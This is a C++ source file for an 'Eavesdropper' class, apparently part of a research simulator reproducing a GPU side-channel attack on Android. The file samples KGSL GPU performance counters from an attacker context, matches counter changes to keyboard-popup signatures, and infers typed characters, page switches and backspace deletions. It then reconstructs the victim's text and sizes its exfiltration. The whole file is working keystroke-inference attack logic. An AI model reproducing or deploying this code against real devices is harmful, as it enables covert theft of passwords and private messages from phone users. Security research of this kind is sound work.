#include "attack/eavesdropper.h"

#include <algorithm>
#include <optional>

#include "util/logging.h"

namespace gpusc::attack {

using namespace gpusc::sim_literals;

Eavesdropper::Eavesdropper(android::Device &device,
                           const SignatureModel &model)
    : Eavesdropper(device, model, Params{})
{
}

Eavesdropper::Eavesdropper(android::Device &device,
                           const SignatureModel &model, Params params)
    : device_(&device), params_(params)
{
    sampler_ = std::make_unique<PcSampler>(
        device_->kgsl(), device_->attackerContext(), device_->eq(),
        params_.samplingInterval, params_.recovery);
    sampler_->setListener([this](const Reading &r) { onReading(r); });
    wireStreamRepair();
    wireTelemetry();
    adoptModel(model);
}

Eavesdropper::Eavesdropper(android::Device &device,
                           const ModelStore &store, Params params)
    : device_(&device), params_(params), store_(&store)
{
    sampler_ = std::make_unique<PcSampler>(
        device_->kgsl(), device_->attackerContext(), device_->eq(),
        params_.samplingInterval, params_.recovery);
    sampler_->setListener([this](const Reading &r) { onReading(r); });
    wireStreamRepair();
    wireTelemetry();
}

Eavesdropper::Eavesdropper(const SignatureModel &model, Params params)
    : params_(params)
{
    wireStreamRepair();
    wireTelemetry();
    adoptModel(model);
}

Eavesdropper::Eavesdropper(const ModelStore &store, Params params)
    : params_(params), store_(&store)
{
    wireStreamRepair();
    wireTelemetry();
}

void
Eavesdropper::wireStreamRepair()
{
    // A stream discontinuity (counter reset / power collapse) must
    // also flush Algorithm 1's pending split candidate: a change from
    // before the gap may not combine with one after it. No inference
    // exists yet during device recognition — drop the notification.
    changes_.setDiscontinuityListener([this](SimTime) {
        if (inference_)
            inference_->noteDiscontinuity();
    });
}

void
Eavesdropper::wireTelemetry()
{
    obs::Telemetry *tel = params_.telemetry;
    changes_.setTelemetry(tel);
    if (sampler_)
        sampler_->setTelemetry(tel);
    if (!tel)
        return;
    changeDetectTimer_ = obs::StageTimer(tel, "attack.change_detect");
    classifyTimer_ = obs::StageTimer(tel, "attack.classify");
    auto &m = tel->metrics;
    readingsInCtr_ = &m.counter("pipeline.readings_in");
    recogChangesCtr_ = &m.counter("pipeline.changes_recognition");
    suppressedCtr_ = &m.counter("pipeline.suppressed_app_switch");
    keysCtr_ = &m.counter("pipeline.keys");
    pagesCtr_ = &m.counter("pipeline.pages");
    deletionsCtr_ = &m.counter("pipeline.deletions");
}

void
Eavesdropper::flushTelemetry()
{
    if (!readingsInCtr_)
        return;
    readingsInCtr_->inc(readingSeq_ - readingsFlushed_);
    readingsFlushed_ = readingSeq_;

    obs::Telemetry *tel = params_.telemetry;
    const HealthStats now = health();
    const HealthStats &was = healthFlushed_;
    auto &m = tel->metrics;
    const struct
    {
        const char *name;
        std::uint64_t now;
        std::uint64_t was;
    } monotonic[] = {
        {"health.transient_retries", now.transientRetries,
         was.transientRetries},
        {"health.busy_retries", now.busyRetries, was.busyRetries},
        {"health.reopens", now.reopens, was.reopens},
        {"health.resets_survived", now.resetsSurvived,
         was.resetsSurvived},
        {"health.watchdog_recoveries", now.watchdogRecoveries,
         was.watchdogRecoveries},
        {"health.missed_reads", now.missedReads, was.missedReads},
        {"health.stream_resets", now.streamResets, was.streamResets},
        {"health.wraps_repaired", now.wrapsRepaired,
         was.wrapsRepaired},
        {"health.throttled_reads", now.throttledReads,
         was.throttledReads},
        {"health.pace_backoffs", now.paceBackoffs, was.paceBackoffs},
        {"health.pace_recoveries", now.paceRecoveries,
         was.paceRecoveries},
    };
    for (const auto &row : monotonic)
        if (row.now > row.was)
            m.counter(row.name).inc(row.now - row.was);
    m.gauge("health.counters_held").set(double(now.countersHeld));
    m.gauge("health.effective_interval_ns")
        .set(double(now.effectiveIntervalNs));
    healthFlushed_ = now;
}

HealthStats
Eavesdropper::health() const
{
    HealthStats h;
    if (sampler_)
        h = sampler_->health();
    else
        // Detached (replay) mode has no device to lose counters to.
        h.countersHeld = gpu::kNumSelectedCounters;
    h.streamResets = changes_.resetsDetected();
    h.wrapsRepaired = changes_.wrapsRepaired();
    return h;
}

Eavesdropper::~Eavesdropper()
{
    // Params::telemetry is documented to outlive the eavesdropper.
    flushTelemetry();
}

void
Eavesdropper::adoptModel(const SignatureModel &model)
{
    model_ = &model;
    inference_ =
        std::make_unique<OnlineInference>(model, params_.inference);
    inference_->setTelemetry(params_.telemetry);
    if (params_.inference.noiseRobust) {
        // Quantization-aware mode: the detector's live lattice
        // estimate feeds the inference's threshold re-estimation.
        changes_.setLatticeEstimation(true);
        inference_->setQuantLattice(&changes_.latticeEstimate());
    }
    correction_ = std::make_unique<CorrectionTracker>(model);
    inference_->setNoiseListener([this](const PcChange &c) {
        if (!params_.correctionTracking || !correction_)
            return;
        const auto len = correction_->decodeFieldLength(c);
        if (!len)
            return;
        // A *shrunken* field length means backspace deletions
        // (§5.3): typing echoes confirm the running length, while
        // backspace runs produce no popups and only shrink it. A
        // single-step shrink right after an inferred key press is
        // ambiguous (a duplicated popup frame inflated the estimate),
        // so only multi-step shrinks pass inside that window.
        const bool afterKey =
            c.time - inference_->lastInferredTime() <
            SimTime::fromMs(300);
        // A very large drop is the field being cleared (navigating
        // away / trial reset), not a backspace run — re-anchor only.
        if (*len < bufferLen_ && bufferLen_ - *len <= 8 &&
            !(afterKey && *len + 1 == bufferLen_)) {
            const int deletions = std::min(bufferLen_ - *len, 8);
            correction_->noteDeletions(deletions);
            for (int i = 0; i < deletions; ++i)
                events_.push_back(
                    {StolenEvent::Kind::Deletion, 0, c.time});
            if (deletionsCtr_)
                deletionsCtr_->inc(std::uint64_t(deletions));
            bufferLen_ = *len;
        } else {
            // Track the decoded level (appends are accounted for by
            // popup inference, but the decode re-anchors drift).
            bufferLen_ = *len;
        }
        maxFieldLen_ = std::max(maxFieldLen_, *len);
    });
}

bool
Eavesdropper::start()
{
    return sampler_ ? sampler_->start() : true;
}

void
Eavesdropper::stop()
{
    if (sampler_)
        sampler_->stop();
    flushTelemetry();
}

void
Eavesdropper::setWakeupJitter(std::function<SimTime()> fn)
{
    if (sampler_)
        sampler_->setWakeupJitter(std::move(fn));
}

void
Eavesdropper::setReadingTap(std::function<void(const Reading &)> fn)
{
    if (sampler_)
        sampler_->setTap(std::move(fn));
}

void
Eavesdropper::feedReading(const Reading &r)
{
    ++readsFed_;
    onReading(r);
}

void
Eavesdropper::feedReadings(std::span<const Reading> rs)
{
    readsFed_ += rs.size();
    for (const Reading &r : rs)
        onReading(r);
}

void
Eavesdropper::onReading(const Reading &r)
{
    if (device_)
        device_->power().addSamplerWakeups(1);
    if (readingsInCtr_) {
        // Per-reading work stays increment-free: the sequence number
        // (needed for sampling anyway) is flushed to the counter at
        // the 1-in-64 sample points and by flushTelemetry(). Host-
        // timing every reading would eat the replay overhead budget;
        // sample 1 in 64 into the change-detect latency lane.
        if ((readingSeq_++ & 63) == 0) {
            flushTelemetry();
            std::optional<PcChange> change;
            {
                const obs::StageTimer::Scope span =
                    changeDetectTimer_.scoped(r.time);
                change = changes_.onReading(r);
            }
            if (change)
                onChange(*change);
            return;
        }
    }
    if (auto change = changes_.onReading(r))
        onChange(*change);
}

bool
Eavesdropper::tryRecognize(const PcChange &c)
{
    // Device recognition: buffer sizeable changes and pick the model
    // whose signature table explains them best.
    recognitionBuffer_.push_back(c);
    if (recognitionBuffer_.size() < 6)
        return false;
    const SignatureModel *best = nullptr;
    double bestScore = 0.0;
    for (const auto &[key, m] : store_->all()) {
        double score = 0.0;
        int accepted = 0;
        for (const PcChange &b : recognitionBuffer_) {
            const SignatureModel::Match match = m.classify(b.delta);
            if (match.accepted(m.threshold())) {
                ++accepted;
                score += 1.0 / (1.0 + match.distance);
            }
        }
        score += double(accepted);
        if (!best || score > bestScore) {
            best = &m;
            bestScore = score;
        }
    }
    if (!best)
        return false;
    adoptModel(*best);
    inform("Eavesdropper: recognised configuration %s",
           best->modelKey().c_str());
    // Replay buffered changes through the adopted pipeline.
    std::vector<PcChange> buffered;
    buffered.swap(recognitionBuffer_);
    for (const PcChange &b : buffered)
        onChange(b);
    return true;
}

void
Eavesdropper::onChange(const PcChange &c)
{
    if (!model_) {
        // Recognition-phase changes are counted separately: the
        // buffered ones re-enter onChange() once a model is adopted
        // and only then join the decision funnel.
        if (recogChangesCtr_)
            recogChangesCtr_->inc();
        tryRecognize(c);
        return;
    }

    if (params_.recordTrace)
        trace_.push_back(c);

    if (params_.appSwitchDetection)
        switchDetector_.onChange(c);

    const std::int64_t t0 = obs::hostNowNs();
    const auto key = inference_->onChange(c);
    const std::int64_t hostNs = obs::hostNowNs() - t0;
    latencies_.add(double(hostNs) / 1000.0);
    // The classify latency lane reuses the measurement above — no
    // additional clock reads on the per-change path.
    classifyTimer_.note(c.time, hostNs);
    if (device_)
        device_->power().addInferences(1);

    if (!key)
        return; // rejections are audited inside OnlineInference

    if (params_.appSwitchDetection) {
        switchDetector_.onClassified(key->label, key->time);
        if (switchDetector_.suppressed(c.time)) {
            if (params_.telemetry) {
                suppressedCtr_->inc();
                params_.telemetry->audit.record(
                    key->time, obs::Stage::Eavesdropper,
                    obs::Decision::SuppressedAppSwitch, key->label,
                    key->distance);
            }
            return;
        }
    }

    if (params_.telemetry)
        params_.telemetry->audit.record(
            key->time, obs::Stage::Eavesdropper,
            key->fromSplit ? obs::Decision::SplitRepaired
                           : obs::Decision::AcceptedKey,
            key->label, key->distance);

    if (acceptListener_)
        acceptListener_(*key);

    if (isPageLabel(key->label)) {
        events_.push_back({StolenEvent::Kind::Page, 0, key->time});
        if (pagesCtr_)
            pagesCtr_->inc();
    } else if (key->label.size() == 1) {
        events_.push_back(
            {StolenEvent::Kind::Char, key->label[0], key->time});
        ++bufferLen_;
        if (keysCtr_)
            keysCtr_->inc();
    } else {
        warn("Eavesdropper: unexpected label '%s'",
             key->label.c_str());
    }
}

std::string
Eavesdropper::inferredTextBetween(SimTime t0, SimTime t1) const
{
    std::string out;
    for (const StolenEvent &e : events_) {
        if (e.time < t0 || e.time > t1)
            continue;
        switch (e.kind) {
          case StolenEvent::Kind::Char:
            out.push_back(e.ch);
            break;
          case StolenEvent::Kind::Deletion:
            if (!out.empty())
                out.pop_back();
            break;
          case StolenEvent::Kind::Page:
            break;
        }
    }
    return out;
}

std::size_t
Eavesdropper::exfiltrationBytes() const
{
    return events_.size() * 5;
}

std::size_t
Eavesdropper::rawCounterBytes() const
{
    const std::uint64_t reads =
        sampler_ ? sampler_->readCount() : readsFed_;
    return std::size_t(reads) * gpu::kNumSelectedCounters *
           sizeof(std::uint64_t);
}

std::string
Eavesdropper::inferredText() const
{
    return inferredTextBetween(SimTime::fromSeconds(-1e9),
                               SimTime::max());
}

} // namespace gpusc::attack
